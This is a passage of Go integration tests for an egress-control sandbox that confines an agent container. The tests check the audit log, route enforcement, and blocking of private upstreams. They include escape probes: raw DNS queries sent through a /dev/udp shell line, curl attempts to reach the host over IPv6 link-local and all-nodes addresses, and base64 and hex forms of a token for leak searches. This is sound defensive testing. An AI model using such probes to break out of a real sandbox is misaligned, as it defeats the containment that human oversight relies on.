			Changed, Reloaded bool
		}
		if err := json.Unmarshal(out, &res); err != nil || !res.Changed || !res.Reloaded {
			t.Errorf("bb-egress apply printed %s (%v); want changed and reloaded", out, err)
		}
		after := marker("apply-after")
		r := b.curl(t, "https://"+deniedHost+"/"+after)
		if r.status != 200 || len(b.denied.saw(t, after)) != 1 {
			t.Errorf("after apply: %v", r)
		}
		b.wantLogged(t, audit.Allow, deniedHost, after)
		if got := b.containerID(t, b.p.Docker.SidecarContainer); got != b.sidecarID {
			t.Errorf("the sidecar was replaced (%s, was %s): not live", got, b.sidecarID)
		}
		// The new route allows GET only.
		if r := b.curl(t, "--data-binary", "x", "https://"+deniedHost+"/"+after+"-post"); r.status != 403 {
			t.Errorf("POST on a GET route: %v", r)
		}
	})

	t.Run("the audit log verifies", func(t *testing.T) {
		path := filepath.Join(b.st.EgressDir(b.slug), state.AuditLogFile)
		rep, err := audit.VerifyFile(path)
		if err != nil || !rep.OK {
			t.Fatalf("VerifyFile: %+v, %v", rep, err)
		}
		var allow, deny, block, canaries int
		for _, e := range b.entries(t) {
			switch e.Decision {
			case audit.Allow:
				allow++
			case audit.Deny:
				deny++
			case audit.Block:
				block++
			}
			if e.Canary {
				canaries++
			}
		}
		t.Logf("audit log: %d lines, %d allow, %d deny, %d block (%d canary)", rep.Lines, allow, deny, block, canaries)
		data, _ := os.ReadFile(path)
		if bytes.Contains(data, []byte(b.token)) || bytes.Contains(data, []byte(canary)) {
			t.Errorf("the audit log holds a secret's value")
		}
	})
}

// tokenForms are the token as is and in the encodings a search should also
// catch.
func (b *escapeBottle) tokenForms() []string {
	return []string{b.token, base64.StdEncoding.EncodeToString([]byte(b.token)),
		base64.StdEncoding.EncodeToString([]byte("x:" + b.token)), fmt.Sprintf("%x", b.token)}
}

func firstLine(s string) string {
	l, _, _ := strings.Cut(s, "\n")
	return l
}

func errText(err error) string {
	if ee, ok := err.(*exec.ExitError); ok {
		return string(ee.Stderr)
	}
	return ""
}

// gateway is the IPv4 gateway of a network: the engine's host on it.
func (b *escapeBottle) gateway(t *testing.T, network string) string {
	return networkGateway(t, b.c, network)
}

// networkGateway is the IPv4 gateway of network: the engine's host on it.
func networkGateway(t *testing.T, c *client.Client, network string) string {
	t.Helper()
	in, err := c.NetworkInspect(t.Context(), network, client.NetworkInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, cfg := range in.Network.IPAM.Config {
		if cfg.Gateway.IsValid() && cfg.Gateway.Is4() {
			return cfg.Gateway.String()
		}
	}
	t.Fatalf("network %s has no IPv4 gateway", network)
	return ""
}

type dnsQ struct{ server, name string }

// dnsQueries sends A queries over UDP from the agent, all at once, and
// returns a summary of each reply that carries an answer record; no reply,
// or one without answers, is left out.
func (b *escapeBottle) dnsQueries(t *testing.T, qs []dnsQ) map[dnsQ]string {
	t.Helper()
	script := ""
	for i, q := range qs {
		script += fmt.Sprintf(`(exec 3<>/dev/udp/%s/53 && printf '%s' >&3 && echo "R%d $(timeout 2 dd bs=512 count=1 <&3 2>/dev/null | od -An -tx1 -v | tr -d '\n')") 2>/dev/null &`+"\n",
			q.server, dnsPacket(q.name), i)
	}
	_, out, _ := b.sh(t, script+"wait")
	got := map[dnsQ]string{}
	for line := range strings.Lines(out) {
		f := strings.Fields(line)
		if len(f) < 13 || f[0][0] != 'R' {
			continue
		}
		i, err := strconv.Atoi(f[0][1:])
		if err != nil || i >= len(qs) {
			continue
		}
		var resp []byte
		for _, h := range f[1:] {
			v, _ := strconv.ParseUint(h, 16, 8)
			resp = append(resp, byte(v))
		}
		if answers := int(resp[6])<<8 | int(resp[7]); answers > 0 {
			got[qs[i]] = fmt.Sprintf("rcode %d, %d answers", resp[3]&0x0f, answers)
		}
	}
	return got
}

// dnsPacket is an A query for name, as printf escapes.
func dnsPacket(name string) string {
	q := []byte{0x4b, 0x42, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		label = label[:min(len(label), 63)]
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	q = append(q, 0, 0, 1, 0, 1)
	var esc strings.Builder
	for _, c := range q {
		fmt.Fprintf(&esc, `\x%02x`, c)
	}
	return esc.String()
}

// testLinkLocalHost probes the host through the internal bridge's IPv6
// link-local address: the bridge has no IPv4 address (InhibitIPv4), but the
// kernel gives every interface an fe80:: one unless IPv6 is off.
func (b *escapeBottle) testLinkLocalHost(t *testing.T) {
	t.Helper()
	ln, err := net.Listen("tcp6", "[::]:0")
	if err != nil {
		t.Logf("no IPv6 on this host (%v): the link-local probe is moot", err)
		return
	}
	defer ln.Close()
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			conn.Write([]byte("HTTP/1.0 200 OK\r\n\r\nhello from the host\n"))
			conn.Close()
		}
	}()
	port := strconv.Itoa(ln.Addr().(*net.TCPAddr).Port)
	in, err := b.c.NetworkInspect(t.Context(), b.p.Docker.InternalNetwork, client.NetworkInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	bridge := "br-" + in.Network.ID[:12]
	addrs := linkLocal(bridge)
	if len(addrs) == 0 {
		t.Logf("the bridge %s has no link-local address here", bridge)
	}
	// The all-nodes address finds whatever answers on the link too.
	addrs = append(addrs, "ff02::1")
	for _, a := range addrs {
		r := b.curl(t, "-6", "--noproxy", "*", "--connect-timeout", "3", "-g", "http://["+a+"%25eth0]:"+port+"/")
		if r.exit == 0 || strings.Contains(r.body, "hello from the host") {
			t.Errorf("ESCAPE: the agent reached the host at [%s%%eth0]:%s over IPv6: %v", a, port, r)
		}
	}
}

// linkLocal reads the fe80:: addresses of a host interface from
// /proc/net/if_inet6 (the engine's host is this one in these tests).
func linkLocal(iface string) []string {
	data, err := os.ReadFile("/proc/net/if_inet6")
	if err != nil {
		return nil
	}
	var out []string
	for line := range strings.Lines(string(data)) {
		f := strings.Fields(line)
		if len(f) == 6 && f[5] == iface && strings.HasPrefix(f[0], "fe80") {
			var ip net.IP
			for i := 0; i < 32; i += 2 {
				v, _ := strconv.ParseUint(f[0][i:i+2], 16, 8)
				ip = append(ip, byte(v))
			}
			out = append(out, ip.String())
		}
	}
	return out
}

// hostBins builds bb-egress and bb-launch for this machine into a folder
// of t's: bb-egress apply runs bb-launch reload beside it.
func hostBins(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.Command("go", "build", "-o", dir+string(os.PathSeparator), "./cmd/bb-egress", "./cmd/bb-launch")
	cmd.Dir = "../../.."
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building bb-egress and bb-launch: %v\n%s", err, out)
	}
	return dir
}

// TestEscapePrivateUpstream: by default a route does not reach a private
// address — the Docker host's networks, a home router, a company's
// intranet — even when its name resolves there; only --allow-private (the
// demo's and TestEscape's) lets it.
func TestEscapePrivateUpstream(t *testing.T) {
	c := needBase(t)
	if !egressHasFlag(t, "allow-private") {
		t.Skip("this bb-egress has no --allow-private: private addresses are reachable")
	}
	var ref string
	var refErr error
	built := make(chan struct{})
	go func() { defer close(built); ref, refErr = upstreamImage(c) }()
	b := &escapeBottle{c: c, slug: newSlug("private"), st: &state.Store{Dir: t.TempDir()}, tlsDir: t.TempDir()}
	writeUpstreamCerts(t, b.tlsDir, allowedHost)
	p, raw := shellPlan(t, b.slug, func(m *manifest.Manifest) {
		m.Bottle.Egress.Routes = []routes.Route{{Host: allowedHost}}
	})
	b.p = p
	cleanupBottle(t, c, b.slug)
	o := launchOptions(t, p, raw, b.st)
	o.UpstreamCA = filepath.Join(b.tlsDir, "ca.pem")
	rec, err := Launch(t.Context(), c, o)
	if <-built; err != nil || refErr != nil {
		t.Fatalf("Launch: %v; the upstream's image: %v", err, refErr)
	}
	b.agentID = rec.AgentID
	b.allowed = startUpstream(t, c, ref, b.slug, p.Docker.EgressNetwork, b.tlsDir, "allowed", allowedHost)
	b.second, b.denied = b.allowed, b.allowed
	for _, scheme := range []string{"http", "https"} {
		m := marker("private-" + scheme)
		r := b.curl(t, scheme+"://"+allowedHost+"/"+m)
		if r.status != 403 {
			t.Errorf("ESCAPE: %s to the private upstream %s (%s): %v", scheme, allowedHost, b.allowed.ip, r)
		}
		e := b.wantLogged(t, audit.Deny, allowedHost, m)
		if !strings.Contains(e.Reason, b.allowed.ip) && !strings.Contains(e.Reason, "private") {
			t.Errorf("%s: logged reason %q does not say why", scheme, e.Reason)
		}
		b.unseen(t, m)
	}
}
